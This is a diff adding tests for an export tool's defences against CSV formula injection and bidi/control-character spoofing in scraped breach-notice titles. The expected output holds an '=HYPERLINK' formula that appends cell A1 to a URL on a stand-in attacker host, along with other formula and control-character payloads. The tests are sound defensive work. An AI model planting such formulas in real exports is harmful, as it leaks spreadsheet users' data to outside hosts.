@@ -7,8 +7,10 @@ No internet: the server listens on 127.0.0.1 (ephemeral port), and the one
 foreign link of the site (other.invalid) must never be followed.  Prints a
 line per failed check and closes with "N passed, M failed"; exits 1 on any
 failure.  Takes about half a minute."""
+import csv
 import fcntl
 import hashlib
+import io
 import json
 import os
 import random
@@ -365,6 +367,83 @@ try:
     r = measured(ingest_cmd(hdb, nul))
     check(r.code == 2 and r.err == "owabi: %s:2: NUL byte in the line\n" % nul,
           "a NUL in line 2: exit 2 naming it (%r)" % r.err)
+
+    # 3. CSV export: a title that is a formula is exported as text, with a
+    # leading apostrophe; so are +, -, @, tab and CR.  (7.) Controls and bidi
+    # overrides a record may hold (one stored by an older owabi) are shown
+    # as <U+XXXX>.  More titles are added as revisions of the same page.
+    fdb = os.path.join(tmp, "formula.db")
+    r = measured(ingest_cmd(fdb, write_sources("formula.txt", BASE + "/hostile/formula.html")))
+    check(r.code == 0, "formula page: exit 0 (exit %s: %r)" % (r.code, r.err))
+    page_id, rec_json = db_query(fdb, "SELECT page_id, json FROM records")[0]
+    titles = ["+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "\u202eRLO\u009b31m\u2066",
+              "plain - text"]
+    con = sqlite3.connect(fdb)
+    for i, t in enumerate(titles):
+        rec = json.loads(rec_json)
+        rec["notice"]["title"] = t
+        con.execute("INSERT INTO records(page_id, revision, sha256, json, created_at)"
+                    " VALUES(?, ?, 'x', ?, '2026-01-01T00:00:00Z')", (page_id, i + 2, json.dumps(rec)))
+    con.commit()
+    con.close()
+    r = subprocess.run([OWABI, "export", "--db", fdb, "--format", "csv", "--all"], capture_output=True)
+    rows = list(csv.reader(io.StringIO(r.stdout.decode("utf-8"), newline="")))
+    want = ["'=HYPERLINK(\"http://evil.invalid/?\"&A1,\"不正アクセスによる個人情報漏えいに関するお詫び\")",
+            "'+SUM(A1:A9)", "'-2+3", "'@SUM(A1)", "'\tTAB", "'\rCR", "<U+202E>RLO<U+009B>31m<U+2066>",
+            "plain - text"]
+    check(r.returncode == 0 and [row[8] for row in rows[1:]] == want,
+          "csv titles neutralised: %s" % [row[8] for row in rows[1:]])
+    check(rows and all(row[6] == "株式会社つばめ商事" for row in rows[1:]), "csv organization column")
+    check(b"\xe2\x80\xae" not in r.stdout and b"\xc2\x9b" not in r.stdout,
+          "csv: no raw U+202E or U+009B")
+    rb = subprocess.run([OWABI, "export", "--db", fdb, "--format", "csv", "--all", "--bom"],
+                        capture_output=True)
+    check(rb.returncode == 0 and rb.stdout == b"\xef\xbb\xbf" + r.stdout,
+          "csv --bom: a UTF-8 BOM, then the same bytes")
+    rb = subprocess.run([OWABI, "export", "--db", fdb, "--bom"], capture_output=True, text=True)
+    check(rb.returncode == 2 and "--bom goes with --format csv" in rb.stderr, "--bom with jsonl: exit 2")
+    r = subprocess.run([OWABI, "export", "--help"], capture_output=True, text=True)
+    check("--bom" in r.stdout and "apostrophe" in r.stdout, "export --help: --bom and the apostrophe")
+
+    # 7. Controls and bidi overrides in a page (raw, and as character
+    # references) stay out of the record: title, name, quotes, everything.
+    cdb = os.path.join(tmp, "controls.db")
+    r = measured(ingest_cmd(cdb, write_sources("controls.txt", BASE + "/hostile/controls.html")))
+    check(r.code == 0, "controls page: exit 0 (exit %s: %r)" % (r.code, r.err))
+    recs = [json.loads(x) for (x,) in db_query(cdb, "SELECT json FROM records")]
+
+    def strings(x):
+        if isinstance(x, str):
+            yield x
+        elif isinstance(x, dict):
+            for v in x.values():
+                yield from strings(v)
+        elif isinstance(x, list):
+            for v in x:
+                yield from strings(v)
+    bad = [t for rec in recs for t in strings(rec) if any(c in t for c in "\u202e\u2066\u009b\u009d")]
+    check(len(recs) == 1 and not bad, "controls kept out of the record: %s" % bad)
+    check(recs and recs[0]["notice"]["title"] == "不正アクセスによる31m個人情報漏えいに関するお詫び"
+          and recs[0]["organization"]["name"] == "株式会社ひばり運輸",
+          "controls page: title and name without them: %s" % [(x["notice"]["title"], x["organization"]["name"]) for x in recs])
+
+    # A record whose stored JSON is corrupt is named, left out, and exit 1
+    # (it was printed as it was, exit 0).
+    bad_id = db_query(fdb, "SELECT id FROM records WHERE revision = 3")[0][0]
+    con = sqlite3.connect(fdb)
+    con.execute("UPDATE records SET json = '{\"source\": {\"url\": ' WHERE id = ?", (bad_id,))
+    con.commit()
+    con.close()
+    for fmt, lines in (("jsonl", 7), ("csv", 8)):
+        r = subprocess.run([OWABI, "export", "--db", fdb, "--all", "--format", fmt], capture_output=True)
+        r.stdout, r.stderr = r.stdout.decode("utf-8"), r.stderr.decode("utf-8")
+        err = r.stderr.splitlines()
+        check(r.returncode == 1 and len(err) == 1 and err[0].startswith(
+            "owabi: %s: record %d (%s/hostile/formula.html revision 3) is corrupt: " % (fdb, bad_id, BASE)),
+              "export %s of a corrupt record: exit 1 naming it (exit %d: %r)" % (fmt, r.returncode, r.stderr))
+        got = len(list(csv.reader(io.StringIO(r.stdout, newline="")))) if fmt == "csv" \
+            else len(r.stdout.splitlines())
+        check(got == lines, "export %s: the other records still printed (%d lines)" % (fmt, got))
 
     # .xml.gz sitemaps, as application/gzip and application/x-gzip, are read
     # (they were refused as an unsupported content type).
